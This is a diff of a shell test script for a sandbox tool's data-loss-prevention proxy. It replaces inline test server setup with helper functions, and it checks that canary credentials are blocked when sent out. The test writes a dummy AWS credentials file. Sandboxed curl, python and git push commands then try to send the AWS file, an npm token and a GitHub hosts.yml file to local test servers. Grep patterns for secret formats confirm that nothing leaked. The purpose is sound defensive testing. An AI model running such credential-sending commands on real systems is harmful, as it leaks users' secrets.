@@ -8,23 +8,13 @@
 # git push of a commit holding hosts.yml to a local smart-HTTP server. The
 # user's real file is never shown; without canary_tokens there is no fake.
 if [ -f "${CAN_SRCDIR}/test/lib.sh" ]; then . "${CAN_SRCDIR}/test/lib.sh"; else . "${CAN_SRCDIR}/lib.sh"; fi
-t_drop_to_user "$CAN_SRCDIR/test/dlp_server.py" "$CAN_SRCDIR/test/dlp_git_server.py"
+. "$CAN_SRCDIR/test/proxy_lib.sh"
+t_drop_to_user "$CAN_SRCDIR/test/proxy_lib.sh" "$CAN_SRCDIR/test/dlp_server.py" \
+	"$CAN_SRCDIR/test/dlp_git_server.py"
 
-TOP=$(mktemp -d /tmp/candlpcf.XXXXXX)
-P=$TOP/proj
-mkdir -p "$P"
-cp "$CAN_SRCDIR/test/dlp_server.py" "$TOP/srv.py"
-cp "$CAN_SRCDIR/test/dlp_git_server.py" "$TOP/gsrv.py"
-cd "$P" || exit 1
-python3 "$TOP/srv.py" serve "$TOP/port" "$TOP/log" &
-SRV=$!
-git init -q --bare "$TOP/git/repo.git" && git -C "$TOP/git/repo.git" config http.receivepack true
-git init -q "$TOP/seed" && echo hello >"$TOP/seed/README" && git -C "$TOP/seed" add README &&
-	git -C "$TOP/seed" -c user.name=t -c user.email=t@t commit -qm init &&
-	git -C "$TOP/seed" push -q "$TOP/git/repo.git" HEAD:refs/heads/main &&
-	git -C "$TOP/git/repo.git" symbolic-ref HEAD refs/heads/main
-python3 "$TOP/gsrv.py" "$TOP/gport" "$TOP/git" &
-GSRV=$!
+pl_workdir candlpcf
+pl_dlp_origin
+pl_git_origin
 # The user's real AWS file: hidden inside (base.toml's deny), read by the
 # supervisor as a secret.
 REAL=real-aws-secret-$RANDOM$RANDOM$RANDOM
@@ -33,28 +23,14 @@ mkdir -p "$HOME/.aws"
 printf '[default]\naws_access_key_id = AKIAREALREALREAL1234\naws_secret_access_key = %s\n' "$REAL" \
 	>"$HOME/.aws/credentials"
 cleanup() {
-	kill $SRV $GSRV 2>/dev/null
+	kill "${PL_PIDS[@]}" 2>/dev/null
 	rm -f "$HOME/.aws/credentials"
 	[ -e "$TOP/aws.saved" ] && cp "$TOP/aws.saved" "$HOME/.aws/credentials"
 	rm -rf "$TOP"
 }
 trap cleanup EXIT
-for _ in $(seq 100); do [ -s "$TOP/port" ] && [ -s "$TOP/gport" ] && break; sleep 0.05; done
-H=host.canister.local:$(cat "$TOP/port")
-G=host.canister.local:$(cat "$TOP/gport")
-cat >canary.toml <<'T'
-[network]
-egress = "proxy-only"
-allow_host_loopback = true
-
-[network.dlp]
-canary_tokens = true
-T
-cat >plain.toml <<'T'
-[network]
-egress = "proxy-only"
-allow_host_loopback = true
-T
+pl_recipe canary.toml loopback "canary_tokens = true"
+pl_recipe plain.toml loopback
 EV=$TOP/events.jsonl
 inside() { "$CAN" run --events "$EV" -r ./canary.toml -- "$@"; }
 
@@ -69,7 +45,7 @@ t_nogrep "without canary_tokens: no fake file" 'AKIA|oauth_token' "$T_OUT"
 
 # curl: the AWS file as a body
 t_run inside curl -sS -m 20 -D - --data-binary @"$HOME/.aws/credentials" "http://$H/v1/leak-aws"
-t_grep "curl sends the fake AWS file: 403 dlp-blocked" 'x-canister-error: dlp-blocked' "$T_OUT"
+pl_refused "curl sends the fake AWS file"
 t_grep "... named as the canary of ~/.aws/credentials" 'canary \(canary file ~/.aws/credentials\) in body' "$T_OUT"
 t_grep "... said loudly" 'A CANARY TOKEN \(canary file ~/.aws/credentials\) was sent to host.canister.local' "$T_ERR"
 # python: the npm token in a JSON body
@@ -106,8 +82,8 @@ t_run inside sh -c "git clone -q http://$G/repo.git work && cd work && cp ~/.con
 t_grep "git push of the fake hosts.yml: refused" \
 	'refused POST .*canary \(canary file ~/.config/gh/hosts.yml\) in body' "$T_ERR"
 t_grep "... the origin repository does not have it" '^init$' \
-	"$(git -C "$TOP/git/repo.git" log -1 --format=%s main)"
-t_grep "the origin never saw a fake value" '^0$' "$(grep -Ec 'AKIA|npm_|ghp_' "$TOP/log")"
+	"$(git -C "$GIT_REPO" log -1 --format=%s main)"
+t_grep "the origin never saw a fake value" '^0$' "$(grep -Ec 'AKIA|npm_|ghp_' "$DLP_LOG")"
 t_grep "--events names the canary file" '"reason":"dlp: canary \(canary file ~/.npmrc\)' "$(cat "$EV" 2>/dev/null)"
 t_nogrep "--events holds no canary value" 'npm_[A-Za-z0-9]{36}|ghp_[A-Za-z0-9]{36}' "$(cat "$EV" 2>/dev/null)"
 t_done
